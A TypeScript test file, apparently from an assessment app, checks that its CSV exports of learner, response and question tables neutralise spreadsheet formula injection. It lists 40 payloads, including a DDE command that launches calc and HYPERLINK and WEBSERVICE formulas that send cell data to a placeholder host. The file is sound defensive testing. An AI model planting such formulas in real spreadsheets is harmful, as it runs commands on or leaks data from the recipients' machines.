import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { emptyGradebook, withResults } from '../assign/gradebook';
import {
	aResult,
	aHandedResponse,
	anAssignment,
	isThorough,
	someKeys,
	tell
} from '../assign/testing';
import type { BankItem } from '../bank/published';
import { readCsv, writeCsv, type CsvCell } from '../formats/csv';
import { authoringOf } from '../items/all';
import { classSheet, type Keys } from './class-sheet';
import { itemFigures } from './item-analysis';
import { itemTable, learnerTable, responseTable } from './tables';

/** What a spreadsheet would compute, fetch or start, behind everything it lets stand before a formula. */
const formulas = ['', ' ', '\t', '\u00a0', '\ufeff'].flatMap((before) => [
	`${before}=1+1`,
	`${before}+1+1`,
	`${before}-1+1`,
	`${before}@SUM(1,1)`,
	`${before}=cmd|' /C calc'!A0`,
	`${before}=HYPERLINK("https://a.example/?"&A1,"x")`,
	`${before}=WEBSERVICE("https://a.example/")`,
	`${before}\uff1d1+1`
]);

/** The three tables of a class whose names, questions, answers and notes are formulas. */
async function tables(): Promise<Record<string, CsvCell[][]>> {
	const { type, examples } = authoringOf('short-text');
	const items = formulas.flatMap((stem, i): BankItem[] =>
		examples.slice(0, 1).map((item) => ({
			...{ ...item, id: `item-${i}`, stem },
			...{ topic: stem, published: '2026-01-01' }
		}))
	);
	const keys: Keys = {
		items: new Map(items.map((item) => [item.id, item])),
		types: new Map([[type.name, type]])
	};
	const refs = items.map(({ id, version }) => ({ item: id, itemVersion: version }));
	const assignment = anAssignment(await someKeys(), { items: refs });
	// Learners of one name would share a row.
	const results = formulas.map((name, i) =>
		aResult(assignment, {
			...{ id: i.toString(16).padStart(16, '0'), who: { name: `${name} ${i}` } },
			answers: refs.map((ref, q) =>
				aHandedResponse({ ...ref, response: { text: formulas[q] ?? '' } })
			)
		})
	);
	const book = {
		...withResults(emptyGradebook(assignment, null), results, 'code', 0).gradebook,
		dropped: refs.map(({ item }, i) => ({ item, note: formulas[i] ?? '', at: 0 }))
	};
	const sheet = classSheet(book, keys);
	return {
		learners: learnerTable(sheet),
		responses: responseTable(sheet),
		questions: itemTable(itemFigures(sheet, keys), book)
	};
}

test('40 formulas as names, questions, answers and notes stay texts in every table', async () => {
	expect(formulas).toHaveLength(40);
	for (const [name, rows] of Object.entries(await tables())) {
		const texts = readCsv(writeCsv(rows)).flat();
		const count = (wanted: (text: string) => boolean) => texts.filter(wanted).length;

		expect(
			count((text) => text.startsWith("'")),
			name
		).toBeGreaterThanOrEqual(40);
		expect(
			count((text) => /^\s*[=+@\uff1d]/.test(text) || /^\s*-\D/.test(text)),
			name
		).toBe(0);
	}
});

test('LibreOffice, where a thorough run finds it, opens every table with no formula in it', async () => {
	if (!isThorough || spawnSync('soffice', ['--version']).error) {
		tell('LibreOffice was not found, and did not open the tables');
		return;
	}
	const folder = mkdtempSync(join(tmpdir(), 'quillwise-tables-'));
	try {
		for (const [name, rows] of Object.entries(await tables())) {
			writeFileSync(join(folder, `${name}.csv`), writeCsv(rows));
			const profile = `-env:UserInstallation=file://${folder}/profile`;
			const opening = ['--headless', '--convert-to', 'fods', '--outdir', folder];
			spawnSync('soffice', [profile, ...opening, join(folder, `${name}.csv`)]);
			const opened = readFileSync(join(folder, `${name}.fods`), 'utf8');
			const found = opened.match(/table:formula=/g)?.length ?? 0;
			const cells = opened.match(/office:value-type="string"/g)?.length ?? 0;
			tell(`LibreOffice opened ${name}.csv: ${cells} texts, ${found} formulas`);
			expect(found, name).toBe(0);
			expect(cells, name).toBeGreaterThan(40);
		}
	} finally {
		rmSync(folder, { recursive: true });
	}
}, 600_000);
